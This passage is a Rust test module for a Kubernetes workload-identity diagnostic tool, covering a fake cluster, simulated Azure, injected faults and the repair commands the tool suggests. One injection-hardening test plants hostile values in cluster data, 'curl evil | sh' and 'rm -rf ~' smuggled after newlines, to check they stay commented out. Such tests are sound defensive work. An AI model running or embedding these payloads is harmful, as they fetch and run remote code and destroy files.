//! A healthy cluster of a fake API server, and what each fault in it turns.

use std::collections::BTreeSet;

use jiff::{SignedDuration, Timestamp};
use k8s_openapi::api::admissionregistration::v1::{MutatingWebhookConfiguration, ValidatingAdmissionPolicyBinding};
use k8s_openapi::api::apps::v1::Deployment;
use k8s_openapi::api::coordination::v1::Lease;
use k8s_openapi::api::core::v1::ConfigMap;
use k8s_openapi::api::policy::v1::PodDisruptionBudget;
use k8s_openapi::apiextensions_apiserver::pkg::apis::apiextensions::v1::CustomResourceDefinition;
use kube::Resource;
use serde::de::DeserializeOwned;
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};
use wio_api::WorkloadIdentityEffectivePolicy;
use wio_azure::{ApiVersion, Azure, Cloud, Endpoints};
use wio_azure_sim::{Config, Simulator};
use wio_testkit::azure::{credential, transport};
use wio_testkit::fixtures::binding;
use wio_testkit::{Effect, FakeApiServer, Matcher, ResourceType};

use crate::Session;
use crate::output::tree::Node;

use super::checks::{OURS, TABLE};
use super::facts::OtherIssuers;
use super::finding::{Examination, Finding, Level};
use super::{Way, commands, examine, gather, trees};

const NAMESPACE: &str = "workload-identity-system";
pub(super) const CLIENT_ID: &str = "4b65e8cb-da6f-4b8e-9399-17dfd09b7846";
pub(super) const SUBSCRIPTION: &str = "6f2e1c1d-52a4-4d0c-8d2f-0c6a2d0b7a11";
const NODE_GROUP: &str = "/subscriptions/6f2e1c1d-52a4-4d0c-8d2f-0c6a2d0b7a11/resourceGroups/MC_shop";

/// The objects of a file of `config`.
fn config(file: &str) -> Vec<Value> {
    let path = format!("{}/../../config/{file}", env!("CARGO_MANIFEST_DIR"));
    let text = std::fs::read_to_string(path).unwrap();
    let documents = serde_yaml_ng::Deserializer::from_str(&text);
    documents
        .map(|document| Value::deserialize(document).unwrap())
        .collect()
}

fn register(server: &FakeApiServer) {
    for (group, kind, plural) in [
        ("apps", "Deployment", "deployments"),
        ("policy", "PodDisruptionBudget", "poddisruptionbudgets"),
        ("discovery.k8s.io", "EndpointSlice", "endpointslices"),
        ("", "ConfigMap", "configmaps"),
        ("", "Service", "services"),
        ("rbac.authorization.k8s.io", "Role", "roles"),
        ("rbac.authorization.k8s.io", "RoleBinding", "rolebindings"),
    ] {
        server.register(ResourceType::builtin(group, "v1", kind, plural));
    }
    for (group, kind, plural) in [
        ("", "Node", "nodes"),
        ("rbac.authorization.k8s.io", "ClusterRole", "clusterroles"),
        ("rbac.authorization.k8s.io", "ClusterRoleBinding", "clusterrolebindings"),
        (
            "admissionregistration.k8s.io",
            "MutatingWebhookConfiguration",
            "mutatingwebhookconfigurations",
        ),
        (
            "admissionregistration.k8s.io",
            "ValidatingAdmissionPolicy",
            "validatingadmissionpolicies",
        ),
        (
            "admissionregistration.k8s.io",
            "ValidatingAdmissionPolicyBinding",
            "validatingadmissionpolicybindings",
        ),
    ] {
        server.register(ResourceType::builtin(group, "v1", kind, plural).cluster_scoped());
    }
}

fn definition(mut definition: CustomResourceDefinition) -> Value {
    definition.metadata.annotations = Some(
        [
            ("kustomize.toolkit.fluxcd.io/prune", "disabled"),
            ("argocd.argoproj.io/sync-options", "Prune=false,Delete=false"),
        ]
        .map(|(key, value)| (key.to_owned(), value.to_owned()))
        .into(),
    );
    let mut definition = json!(definition);
    definition["status"] = json!({
        "acceptedNames": { "kind": "", "plural": "" }, "storedVersions": [],
        "conditions": [{ "type": "Established", "status": "True", "reason": "", "message": "", "lastTransitionTime": "2026-01-01T00:00:00Z" }],
    });
    definition
}

fn operator_pod(name: &str) -> Value {
    json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": { "namespace": NAMESPACE, "name": name, "labels": { "app.kubernetes.io/name": "workload-identity-operator" } },
        "spec": { "containers": [{ "name": "operator", "env": [
            { "name": "AZURE_CLIENT_ID", "value": CLIENT_ID },
            { "name": "AZURE_FEDERATED_TOKEN_FILE", "value": "/var/run/secrets/azure/tokens/azure-identity-token" },
        ] }] },
    })
}

/// The operator's own objects but its Deployment, and a node.
fn own_parts() -> Vec<Value> {
    let now = Timestamp::now();
    let group = "/subscriptions/6f2e1c1d-52a4-4d0c-8d2f-0c6a2d0b7a11/resourceGroups/workload-identities";
    vec![
        json!({ "apiVersion": "v1", "kind": "ConfigMap",
            "metadata": { "namespace": NAMESPACE, "name": "workload-identity-operator-settings" },
            "data": { "WIO_CLIENT_ID": CLIENT_ID } }),
        json!({ "apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
            "metadata": { "namespace": NAMESPACE, "name": "workload-identity-operator" },
            "spec": { "holderIdentity": "one_1", "leaseDurationSeconds": 30, "renewTime": format!("{now:.6}") } }),
        json!({ "apiVersion": "workloadidentity.dev/v1alpha1", "kind": "WorkloadIdentityEffectivePolicy",
            "metadata": { "name": "cluster" },
            "spec": {
                "subscriptionId": "6f2e1c1d-52a4-4d0c-8d2f-0c6a2d0b7a11", "resourceGroup": "workload-identities",
                "location": "westeurope", "requirePolicy": false, "protected": [], "lockedRoles": [],
                "rolesLockedAtIdentities": [], "identityScopes": [], "policies": [], "problems": [], "vanished": [],
                "accepted": { "resourceGroupId": group, "location": "westeurope", "protectedResourceGroups": [NODE_GROUP] },
            } }),
        json!({ "apiVersion": "v1", "kind": "Node", "metadata": { "name": "node" },
            "spec": { "providerID": format!("azure://{}/providers/Microsoft.Compute/virtualMachineScaleSets/a/virtualMachines/0", NODE_GROUP.to_lowercase()) } }),
    ]
}

/// The pod webhook, as its chart installs it.
fn webhook_parts() -> Vec<Value> {
    vec![
        json!({ "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
            "metadata": { "name": "azure-wi-webhook-mutating-webhook-configuration" },
            "webhooks": [{ "name": "mutation.azure-workload-identity.io", "failurePolicy": "Fail", "admissionReviewVersions": ["v1"], "sideEffects": "None",
                "clientConfig": { "service": { "namespace": "kube-system", "name": "azure-wi-webhook-webhook-service" } } }] }),
        json!({ "apiVersion": "v1", "kind": "Service",
            "metadata": { "namespace": "kube-system", "name": "azure-wi-webhook-webhook-service" },
            "spec": { "selector": { "azure-workload-identity.io/system": "true" } } }),
        json!({ "apiVersion": "discovery.k8s.io/v1", "kind": "EndpointSlice", "addressType": "IPv4",
            "metadata": { "namespace": "kube-system", "name": "a", "labels": { "kubernetes.io/service-name": "azure-wi-webhook-webhook-service" } },
            "endpoints": [{ "addresses": ["10.0.0.1"], "conditions": { "ready": true } }, { "addresses": ["10.0.0.2"] }] }),
        json!({ "apiVersion": "v1", "kind": "Pod",
            "metadata": { "namespace": "kube-system", "name": "hook", "labels": { "azure-workload-identity.io/system": "true" } },
            "spec": { "containers": [{ "name": "manager", "image": "mcr.microsoft.com/oss/azure/workload-identity/webhook:v1.6.0" }] } }),
    ]
}

/// A cluster in which all is well: what `config` installs, running, and the pod webhook.
pub(crate) fn healthy() -> FakeApiServer {
    let server = FakeApiServer::new();
    register(&server);
    for ours in OURS.iter() {
        let name = ours.metadata.name.as_ref().unwrap();
        server.delete::<CustomResourceDefinition>("", name);
        server.seed(definition(ours.clone()));
    }
    for namespace in [NAMESPACE, "shop"] {
        server.create_namespace(namespace);
    }
    for file in [
        "rbac/role.yaml",
        "rbac/role_binding.yaml",
        "admission/policy.yaml",
        "admission/record.yaml",
        "admission/binding.yaml",
        "manager/pod_disruption_budget.yaml",
    ] {
        for object in config(file) {
            server.seed(object);
        }
    }
    let mut deployment = config("manager/deployment.yaml").remove(0);
    deployment["status"] = json!({ "readyReplicas": 2, "replicas": 2 });
    deployment["spec"]["template"]["spec"]["containers"][0]["image"] =
        json!(format!("registry.example:5000/operator:{}", env!("CARGO_PKG_VERSION")));
    server.seed(deployment);
    server.seed(operator_pod("one"));
    server.seed(operator_pod("two"));
    for object in own_parts().into_iter().chain(webhook_parts()) {
        server.seed(object);
    }
    server.seed(json!(
        binding("shop", "orders").managed().service_account("orders").build()
    ));
    set_binding_status(&server, "True", "Succeeded", "https://issuer.example/");
    server.set_discovery(
        json!({ "issuer": "https://issuer.example/", "id_token_signing_alg_values_supported": ["RS256"] }),
    );
    server
}

fn set_binding_status(server: &FakeApiServer, ready: &str, reason: &str, issuer: &str) {
    let status = json!({
        "apiVersion": "workloadidentity.dev/v1alpha1", "kind": "WorkloadIdentityBinding",
        "metadata": { "namespace": "shop", "name": "orders" },
        "status": { "issuer": issuer, "conditions": [{
            "type": "Ready", "status": ready, "reason": reason, "message": "as it is", "lastTransitionTime": "2026-01-01T00:00:00Z",
        }] },
    });
    server.apply_status_as("operator", status, true).unwrap();
}

async fn examined(server: &FakeApiServer) -> Examination {
    let session = Session {
        client: server.client(),
        namespace: "shop".to_owned(),
    };
    examine(&gather(&session, None).await)
}

pub(super) fn told(trees: &[Node]) -> String {
    let mut out = anstream::StripStream::new(Vec::new());
    for tree in trees {
        tree.write(&mut out).unwrap();
    }
    String::from_utf8(out.into_inner()).unwrap()
}

pub(super) fn of<'a>(found: &'a Examination, id: &str) -> &'a Finding {
    found.checks.iter().find(|one| one.id == id).unwrap()
}

/// A grant of a role to a subject.
fn grant(role: &str, kind: &str, name: &str) -> Value {
    json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": { "name": "too wide" },
        "roleRef": { "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role },
        "subjects": [{ "apiGroup": "rbac.authorization.k8s.io", "kind": kind, "name": name }],
    })
}

#[tokio::test]
async fn a_cluster_in_which_all_is_well_shows_neither_red_nor_yellow() {
    let server = healthy();
    let found = examined(&server).await;
    assert_eq!((found.red, found.yellow), (0, 0), "{}", told(&trees(&found)));
    // The fake API server does not answer who somebody is or may do, has no metrics, and carries no date; Azure was not asked.
    let unseen: BTreeSet<&str> = found
        .checks
        .iter()
        .filter(|one| matches!(one.level, Level::NotLookedAt | Level::Unknown))
        .map(|one| one.id)
        .collect();
    assert_eq!((found.unknown, found.well), (4, false), "what nobody knows is not well");
    let of_azure = unseen.iter().filter(|id| of(&found, id).says.contains("--cluster-id"));
    assert_eq!(of_azure.count(), OF_AZURE.len());
    let rest: Vec<&str> = unseen.into_iter().filter(|id| !OF_AZURE.contains(id)).collect();
    assert_eq!(rest, ["caller", "clock", "external-issuers", "operator-rights"]);
    let asked = |request: &wio_testkit::ApiRequest| request.resource.ends_with("reviews");
    assert!(
        server.writes().iter().all(asked),
        "a question changes nothing: {:?}",
        server.writes()
    );
}

/// Gives the operator a setting.
fn set(server: &FakeApiServer, setting: &str, value: &str) {
    change(
        server,
        NAMESPACE,
        "workload-identity-operator-settings",
        |one: &mut ConfigMap| {
            let data = one.data.get_or_insert_default();
            data.insert(setting.to_owned(), value.to_owned());
        },
    );
}

/// What stands on a binding where the operator does not act is nothing that it could mend.
#[tokio::test]
async fn a_binding_where_the_operator_does_not_act_is_counted_and_not_judged() {
    for (setting, names) in [
        ("WIO_WATCH_NAMESPACES", "mail,billing"),
        ("WIO_EXCLUDE_NAMESPACES", "mail,shop"),
    ] {
        let server = healthy();
        set_binding_status(&server, "False", "ScopeLocked", "https://another.example/");
        assert_eq!(of(&examined(&server).await, "bindings").level, Level::Yellow);
        set(&server, setting, names);
        let found = examined(&server).await;
        assert_eq!((found.red, found.yellow), (0, 0), "{}", told(&trees(&found)));
        let bindings = of(&found, "bindings");
        assert_eq!(bindings.says, "there are none", "{setting}");
        assert_eq!(
            bindings.details,
            ["1 more binding in namespaces in which its settings let the operator not act"]
        );
    }
    let server = healthy();
    set(&server, "WIO_WATCH_NAMESPACES", "mail,shop");
    assert_eq!(of(&examined(&server).await, "bindings").says, "1 binding ready");
}

/// What a fault turns, and a part of a command that mends it.
struct Turn {
    happens: fn(&FakeApiServer),
    turns: &'static [(&'static str, Level)],
    mends: &'static str,
}

const fn turn(happens: fn(&FakeApiServer), turns: &'static [(&'static str, Level)], mends: &'static str) -> Turn {
    Turn { happens, turns, mends }
}

/// Changes an object of a type.
fn change<K>(server: &FakeApiServer, namespace: &str, name: &str, change: impl FnOnce(&mut K))
where
    K: Resource<DynamicType = ()> + Serialize + DeserializeOwned,
{
    server.edit::<K>(namespace, name, |object| {
        let mut typed: K = serde_json::from_value(object.clone()).unwrap();
        change(&mut typed);
        *object = json!(typed);
    });
}

pub(super) fn effective(server: &FakeApiServer, edit: impl FnOnce(&mut WorkloadIdentityEffectivePolicy)) {
    change(server, "", "cluster", edit);
}

const TURNS: &[Turn] = {
    use Level::{NotLookedAt, Red, Unknown, Yellow};
    &[
        turn(
            |server| server.delete::<CustomResourceDefinition>("", "workloadidentitypolicies.workloadidentity.dev"),
            &[("definitions", Red)],
            "--kustomize config/crd",
        ),
        turn(
            |server| {
                change(
                    server,
                    "",
                    "workloadidentitybindings.workloadidentity.dev",
                    |one: &mut CustomResourceDefinition| {
                        one.metadata.annotations = None;
                    },
                );
            },
            &[("definitions-kept", Yellow)],
            "argocd.argoproj.io/sync-options=Prune=false,Delete=false",
        ),
        turn(
            |server| {
                change(
                    server,
                    "",
                    "workloadidentitybindings.workloadidentity.dev",
                    |one: &mut CustomResourceDefinition| {
                        one.spec.versions[0].schema = None;
                    },
                );
            },
            &[("definitions-version", Yellow)],
            "--kustomize config/crd",
        ),
        turn(
            |server| {
                change(
                    server,
                    NAMESPACE,
                    "workload-identity-operator",
                    |one: &mut Deployment| {
                        one.spec.as_mut().unwrap().replicas = Some(0);
                    },
                );
            },
            &[("operator", Red)],
            "kubectl scale deployment workload-identity-operator --namespace workload-identity-system --replicas 2",
        ),
        turn(
            |server| {
                server.delete::<Deployment>(NAMESPACE, "workload-identity-operator");
                server.delete::<Lease>(NAMESPACE, "workload-identity-operator");
            },
            &[
                ("operator", Red),
                ("lease", Red),
                ("operator-version", NotLookedAt),
                ("operator-identity", NotLookedAt),
                ("operator-disruptions", NotLookedAt),
            ],
            "kubectl wib bootstrap",
        ),
        // One that runs on a workstation and takes part in the election.
        turn(
            |server| server.delete::<Deployment>(NAMESPACE, "workload-identity-operator"),
            &[
                ("operator", Yellow),
                ("operator-version", NotLookedAt),
                ("operator-identity", NotLookedAt),
                ("operator-disruptions", NotLookedAt),
            ],
            "kubectl wib bootstrap",
        ),
        turn(
            |server| {
                let mut bare = operator_pod("bare");
                bare["spec"]["containers"][0]["env"] = json!([]);
                server.seed(bare);
            },
            &[("operator-identity", Red)],
            "kubectl rollout restart deployment workload-identity-operator",
        ),
        turn(
            |server| {
                let mut other = operator_pod("other");
                other["spec"]["containers"][0]["env"][0]["value"] = json!("somebody else");
                server.seed(other);
            },
            &[("operator-identity", Red)],
            "azure.workload.identity/client-id=4b65e8cb-da6f-4b8e-9399-17dfd09b7846",
        ),
        turn(
            |server| {
                change(
                    server,
                    NAMESPACE,
                    "workload-identity-operator",
                    |one: &mut Deployment| {
                        one.metadata
                            .labels
                            .as_mut()
                            .unwrap()
                            .insert("app.kubernetes.io/version".to_owned(), "0.0.9".to_owned());
                    },
                );
            },
            &[("operator-version", Yellow)],
            "helm upgrade",
        ),
        turn(
            |server| server.delete::<PodDisruptionBudget>(NAMESPACE, "workload-identity-operator"),
            &[("operator-disruptions", Yellow)],
            "pod_disruption_budget.yaml",
        ),
        turn(
            |server| {
                change(server, NAMESPACE, "workload-identity-operator", |one: &mut Lease| {
                    let renewed = &mut one.spec.as_mut().unwrap().renew_time.as_mut().unwrap().0;
                    *renewed -= SignedDuration::from_mins(5);
                });
            },
            &[("lease", Red)],
            "kubectl get lease workload-identity-operator --namespace workload-identity-system",
        ),
        turn(
            |server| server.delete::<ValidatingAdmissionPolicyBinding>("", "workload-identity-operator"),
            &[("admission", Yellow)],
            "--kustomize config/admission",
        ),
        turn(
            |server| server.delete::<WorkloadIdentityEffectivePolicy>("", "cluster"),
            &[
                ("effective-policy", Red),
                ("policy-problems", NotLookedAt),
                ("policies-vanished", NotLookedAt),
                ("settings-held", NotLookedAt),
                ("node-group", NotLookedAt),
            ],
            "kubectl logs",
        ),
        turn(
            |server| effective(server, |one| one.spec.problems.push("policy: spec.roles[0]".to_owned())),
            &[("policy-problems", Yellow)],
            "kubectl describe workloadidentitypolicies",
        ),
        turn(
            |server| effective(server, |one| one.spec.vanished.push("platform".to_owned())),
            &[("policies-vanished", Yellow)],
            "MassDisappearance",
        ),
        turn(
            |server| effective(server, |one| one.spec.accepted.location = "northeurope".to_owned()),
            &[("settings-held", Yellow)],
            "MassDisappearance",
        ),
        turn(
            |server| effective(server, |one| one.spec.accepted.protected_resource_groups.clear()),
            &[("node-group", Yellow)],
            "'azure.protectedResourceGroups={/subscriptions/",
        ),
        turn(
            |server| {
                server.seed(json!({
                    "apiVersion": "workloadidentity.dev/v1alpha1", "kind": "WorkloadIdentityPolicy",
                    "metadata": { "name": "unseen" }, "spec": { "namespaces": { "names": ["shop"] } },
                }));
            },
            &[("policies", Yellow)],
            "kubectl describe workloadidentitypolicies",
        ),
        turn(
            |server| set_binding_status(server, "False", "ScopeLocked", "https://issuer.example/"),
            &[("bindings", Yellow), ("azure-rights", NotLookedAt)],
            "kubectl wib status orders --namespace shop",
        ),
        turn(
            |server| set_binding_status(server, "True", "Succeeded", "https://issuer.example"),
            &[("issuer-of-bindings", Red)],
            "kubectl wib status --all-namespaces",
        ),
        turn(
            |server| {
                server.seed(grant(
                    "workload-identity-operator-edit",
                    "Group",
                    "system:authenticated",
                ));
            },
            &[("binding-writers", Red)],
            "kubectl delete 'clusterrolebinding/too wide'",
        ),
        turn(
            |server| {
                server.seed(grant("workload-identity-operator", "User", "system:anonymous"));
            },
            // The record is kept by admission.
            &[("binding-writers", Red), ("policy-writers", Red)],
            "kubectl delete 'clusterrolebinding/too wide'",
        ),
        turn(
            |server| {
                server.delete::<MutatingWebhookConfiguration>("", "azure-wi-webhook-mutating-webhook-configuration");
            },
            &[
                ("webhook", Red),
                ("webhook-pods", NotLookedAt),
                ("webhook-version", NotLookedAt),
            ],
            "--enable-workload-identity",
        ),
        turn(
            |server| {
                change(
                    server,
                    "",
                    "azure-wi-webhook-mutating-webhook-configuration",
                    |one: &mut MutatingWebhookConfiguration| {
                        one.webhooks.as_mut().unwrap()[0].failure_policy = Some("Ignore".to_owned());
                    },
                );
            },
            &[("webhook", Yellow)],
            "kubectl get mutatingwebhookconfiguration",
        ),
        turn(
            |server| {
                server.set_discovery(json!({
                    "issuer": "https://kubernetes.default.svc.cluster.local", "id_token_signing_alg_values_supported": ["RS256"],
                }));
            },
            &[("issuer", Red), ("issuer-of-bindings", Red)],
            "--enable-oidc-issuer",
        ),
        turn(
            |server| {
                server.set_discovery(
                    json!({ "issuer": "https://issuer.example/", "id_token_signing_alg_values_supported": ["ES256"] }),
                );
            },
            &[("issuer", Red)],
            "kubectl get --raw /.well-known/openid-configuration",
        ),
        turn(
            |server| {
                server.set_discovery(
                    json!({ "issuer": "https://10.0.0.1/", "id_token_signing_alg_values_supported": ["RS256"] }),
                );
                set_binding_status(server, "False", "IssuerUnreachable", "https://10.0.0.1/");
            },
            &[("issuer", Red), ("bindings", Yellow), ("azure-rights", NotLookedAt)],
            "az aks update --resource-group RESOURCE_GROUP --name CLUSTER --enable-oidc-issuer",
        ),
        // The operator was told that it is meant, or the binding would not be ready.
        turn(
            |server| {
                server.set_discovery(
                    json!({ "issuer": "https://10.0.0.1/", "id_token_signing_alg_values_supported": ["RS256"] }),
                );
                set_binding_status(server, "True", "Succeeded", "https://10.0.0.1/");
            },
            &[("issuer", Yellow)],
            "kubectl get --raw /.well-known/openid-configuration",
        ),
        turn(
            |server| {
                server.seed(json!({
                    "apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
                    "metadata": { "name": "azureidentities.aadpodidentity.k8s.io" },
                    "spec": { "group": "aadpodidentity.k8s.io", "scope": "Namespaced", "versions": [], "names": { "kind": "AzureIdentity", "plural": "azureidentities" } },
                }));
            },
            &[("pod-identity", Yellow)],
            "kubectl get azureidentities",
        ),
        turn(
            |server| {
                let forbidden = Effect::status(403, "Forbidden", "you may not");
                server.inject(Matcher::any().resource("clusterroles"), forbidden);
            },
            &[
                ("binding-writers", Unknown),
                ("policy-writers", Unknown),
                ("status-writers", Unknown),
                ("pod-creators", Unknown),
            ],
            "",
        ),
    ]
};

#[tokio::test]
async fn each_fault_turns_its_own_lines_and_is_mended_by_a_command() {
    let before = examined(&healthy()).await;
    for (number, Turn { happens, turns, mends }) in TURNS.iter().enumerate() {
        let server = healthy();
        happens(&server);
        let found = examined(&server).await;
        let story = told(&trees(&found));
        let turned: BTreeSet<&str> = (found.checks.iter().zip(&before.checks))
            .filter(|(now, before)| now.level != before.level)
            .map(|(now, _)| now.id)
            .collect();
        let expected: BTreeSet<&str> = turns.iter().map(|(id, _)| *id).collect();
        assert_eq!(turned, expected, "fault {number}\n{story}");
        for (id, level) in *turns {
            assert_eq!(of(&found, id).level, *level, "fault {number}: {id}\n{story}");
        }
        let red = turns.iter().filter(|(_, level)| *level == Level::Red).count();
        assert_eq!(found.red, red, "fault {number}\n{story}");
        let mut out = Vec::new();
        commands(&found, &mut out).unwrap();
        let out = String::from_utf8(out).unwrap();
        assert!(out.contains(mends), "fault {number}: {mends} is not in\n{out}");
    }
}

/// What a tenant calls something stands in comments and commands that people paste into a shell.
#[tokio::test]
async fn what_a_cluster_says_stays_in_its_comment_and_its_word() {
    let server = healthy();
    effective(&server, |one| one.spec.vanished.push("a\nrm -rf ~".to_owned()));
    server.set_discovery(
        json!({ "issuer": "https://a.example/\ncurl evil | sh", "id_token_signing_alg_values_supported": ["RS256"] }),
    );
    let mut out = Vec::new();
    commands(&examined(&server).await, &mut out).unwrap();
    let out = String::from_utf8(out).unwrap();
    assert!(out.contains("curl evil"), "{out}");
    for line in out.lines() {
        assert!(line.starts_with("# ") || line.starts_with("kubectl "), "{line:?}");
    }
}

/// What Azure alone tells.
const OF_AZURE: [&str; 8] = [
    "entra-integration",
    "local-accounts",
    "entra-authorization",
    "kubeconfig",
    "cluster-identities",
    "issuer-in-azure",
    "workload-identity-in-azure",
    "credentials-of-nobody",
];

/// An AKS cluster in which all is as it should be.
fn aks() -> Value {
    json!({
        "subscriptionId": SUBSCRIPTION, "resourceGroup": "clusters", "name": "shop", "location": "westeurope",
        "identity": { "type": "UserAssigned", "userAssignedIdentities": { (identity_of_cluster("plane")): { "clientId": CLIENT_ID } } },
        "properties": {
            "nodeResourceGroup": "MC_shop",
            "disableLocalAccounts": true,
            "aadProfile": { "managed": true, "enableAzureRBAC": true, "adminGroupObjectIDs": null },
            "oidcIssuerProfile": { "enabled": true, "issuerURL": "https://issuer.example/" },
            "securityProfile": { "workloadIdentity": { "enabled": true } },
            "identityProfile": { "kubeletidentity": {
                "resourceId": format!("/subscriptions/{SUBSCRIPTION}/resourcegroups/mc_shop/providers/Microsoft.ManagedIdentity/userAssignedIdentities/shop-agentpool"),
            } },
            "addonProfiles": { "azureKeyvaultSecretsProvider": { "enabled": true, "identity": {
                "resourceId": format!("{NODE_GROUP}/providers/Microsoft.ManagedIdentity/userAssignedIdentities/kv-shop"),
            } } },
        },
    })
}

fn identity_of_cluster(name: &str) -> String {
    format!(
        "/subscriptions/{SUBSCRIPTION}/resourcegroups/clusters/providers/Microsoft.ManagedIdentity/userAssignedIdentities/{name}"
    )
}

/// What is found with a simulator in the place of Azure, which has this cluster, and these credentials on the binding's identity.
async fn examined_with(aks: Value, credentials: Value) -> Examination {
    let identity = format!(
        "/subscriptions/{SUBSCRIPTION}/resourceGroups/workload-identities/providers/Microsoft.ManagedIdentity/userAssignedIdentities/wib-a"
    );
    let server = healthy();
    effective(&server, |one| {
        one.spec.accepted.protected_identities = vec![identity_of_cluster("plane").to_uppercase()];
    });
    let status = json!({
        "apiVersion": "workloadidentity.dev/v1alpha1", "kind": "WorkloadIdentityBinding",
        "metadata": { "namespace": "shop", "name": "orders" },
        "status": {
            "issuer": "https://issuer.example/",
            "identity": { "resourceId": identity, "name": "wib-a", "origin": "Created" },
            "federatedCredentials": [{ "name": "ours", "serviceAccount": "orders", "subject": "system:serviceaccount:shop:orders", "audience": "api://AzureADTokenExchange" }],
        },
    });
    server.apply_status_as("another", status, true).unwrap();
    let group = |name| json!({ "subscriptionId": SUBSCRIPTION, "name": name, "location": "westeurope" });
    let snapshot = json!({
        "resourceGroups": [group("clusters"), group("workload-identities")],
        "identities": [{
            "id": identity, "location": "westeurope", "clientId": CLIENT_ID, "principalId": "1a2b3c4d-0000-4000-8000-0000000091c1",
            "isolationScope": "None", "createdAt": "2026-01-01T00:00:00Z", "credentials": credentials,
        }],
        "managedClusters": [aks],
        "roleDefinitions": [custom("6b1de86c-8f0a-4a37-9a6d-5f0c8d5f7e26", "Fetches", "*/action"), custom("7b1de86c-8f0a-4a37-9a6d-5f0c8d5f7e27", "Reads", "*/read")],
        // A contributor fetches the administrator's kubeconfig while there is one, and so does whoever has the first of the roles of one's own.
        "roleAssignments": [assigned("b24988ac-6180-42a0-ab88-20f7382dd24c", 1), assigned("6b1de86c-8f0a-4a37-9a6d-5f0c8d5f7e26", 2), assigned("7b1de86c-8f0a-4a37-9a6d-5f0c8d5f7e27", 3)],

    });
    let id = format!(
        "/subscriptions/{SUBSCRIPTION}/resourceGroups/Clusters/providers/Microsoft.ContainerService/managedClusters/SHOP"
    );
    let way = Way {
        azure: Ok(simulated(snapshot)),
        id: Some(id.parse().unwrap()),
    };
    let session = Session {
        client: server.client(),
        namespace: "shop".to_owned(),
    };
    examine(&gather(&session, Some(&way)).await)
}

/// Azure as a person sees it who may read everything.
pub(crate) fn simulated(snapshot: Value) -> Azure {
    let simulator = Simulator::new(Config::default().with_static_token("a person's"));
    simulator.restore(serde_json::from_value(snapshot).unwrap());
    let transport = transport(move |request| {
        let simulator = simulator.clone();
        async move { simulator.handle(request).await }
    });
    let endpoints = Endpoints::new(Cloud::Public, None, ApiVersion::DEFAULT.parse().unwrap()).unwrap();
    Azure::new(transport, credential("a person's"), endpoints)
}

fn trusting(name: &str, issuer: &str) -> Value {
    json!({ "name": name, "issuer": issuer, "subject": "system:serviceaccount:shop:orders", "audiences": ["api://AzureADTokenExchange"] })
}

/// A role of one's own.
fn custom(guid: &str, name: &str, action: &str) -> Value {
    json!({
        "name": guid, "roleName": name, "custom": true, "permissions": [{ "actions": [action] }],
        "assignableScopes": [format!("/subscriptions/{SUBSCRIPTION}")],
    })
}

/// Somebody who has a role where the cluster is.
fn assigned(role: &str, number: u8) -> Value {
    json!({
        "name": format!("3b1de86c-8f0a-4a37-9a6d-5f0c8d5f7e2{number}"), "scope": format!("/subscriptions/{SUBSCRIPTION}/resourceGroups/clusters"),
        "roleDefinitionId": role, "principalId": format!("7cd27418-129c-4e88-a17c-750927b0198{number}"), "principalType": "User",
        "createdOn": "2026-01-01T00:00:00Z", "updatedOn": "2026-01-01T00:00:00Z", "createdBy": "",
    })
}

#[tokio::test]
async fn whoever_fetches_the_administrators_kubeconfig_by_a_role_of_ones_own_is_found() {
    let mut open = aks();
    *open.pointer_mut("/properties/disableLocalAccounts").unwrap() = json!(false);
    let found = examined_with(open, json!([])).await;
    let told = of(&found, "kubeconfig").details.join("\n");
    assert!(
        told.contains("by Contributor at") && told.contains("by Fetches at"),
        "{told}"
    );
    assert!(!told.contains("by Reads at"), "{told}");
}

#[test]
fn an_issuer_of_others_is_known_by_its_hash_once_a_token_of_it_was_tried() {
    let none =
        OtherIssuers::of_metrics("apiserver_request_total{code=\"200\"} 1\napiserver_authentication_attempts 2\n");
    assert_eq!(none, OtherIssuers::default());
    let file = "apiserver_authentication_config_controller_automatic_reloads_total{status=\"success\"} 1\n";
    assert!(OtherIssuers::of_metrics(file).configured);
    let tried = "apiserver_authentication_jwt_authenticator_latency_seconds_count{jwt_issuer_hash=\"sha256:aa\",result=\"success\"} 1\n";
    let found = OtherIssuers::of_metrics(&tried.repeat(2));
    assert_eq!(found.tried.into_iter().collect::<Vec<_>>(), ["sha256:aa"]);
}

#[tokio::test]
async fn a_caller_who_may_read_nothing_learns_that_nothing_is_known() {
    let server = healthy();
    server.inject(Matcher::any(), Effect::status(403, "Forbidden", "you may not"));
    let found = examined(&server).await;
    assert!(
        !found.well && found.red == 0 && found.green == 0,
        "{}",
        told(&trees(&found))
    );
    assert!(found.unknown > 20, "{}", told(&trees(&found)));
}

#[tokio::test]
async fn a_cluster_of_aks_in_which_all_is_well_is_green_in_azure_too() {
    let others = json!([
        trusting("ours", "https://issuer.example/"),
        trusting("another-clusters", "https://other.example/")
    ]);
    let found = examined_with(aks(), others).await;
    for id in OF_AZURE {
        assert_eq!(of(&found, id).level, Level::Green, "{}", told(&trees(&found)));
    }
}

#[tokio::test]
#[allow(clippy::too_many_lines, reason = "it is a table")]
async fn what_azure_shows_turns_its_own_lines() {
    let none = || json!([]);
    let change = |pointer: &str, value: Value| {
        let mut changed = aks();
        *changed.pointer_mut(pointer).unwrap() = value;
        changed
    };
    let stranger = json!([trusting("stranger", "https://issuer.example/")]);
    let open = json!({ (identity_of_cluster("open")): {} });
    for (cluster, credentials, id, level, mends) in [
        (
            change("/properties/aadProfile", Value::Null),
            none(),
            "entra-integration",
            Level::Yellow,
            "--enable-aad",
        ),
        (
            change("/properties/disableLocalAccounts", json!(false)),
            none(),
            "local-accounts",
            Level::Yellow,
            "--disable-local-accounts",
        ),
        (
            change("/properties/nodeResourceGroup", json!("MC_other")),
            none(),
            "cluster-identities",
            Level::Yellow,
            "azure.protectedResourceGroups",
        ),
        (
            change("/identity/userAssignedIdentities", open),
            none(),
            "cluster-identities",
            Level::Yellow,
            "azure.protectedIdentities",
        ),
        (
            change("/properties/oidcIssuerProfile/enabled", json!(false)),
            none(),
            "issuer-in-azure",
            Level::Red,
            "--name SHOP --enable-oidc-issuer",
        ),
        (
            change(
                "/properties/oidcIssuerProfile/issuerURL",
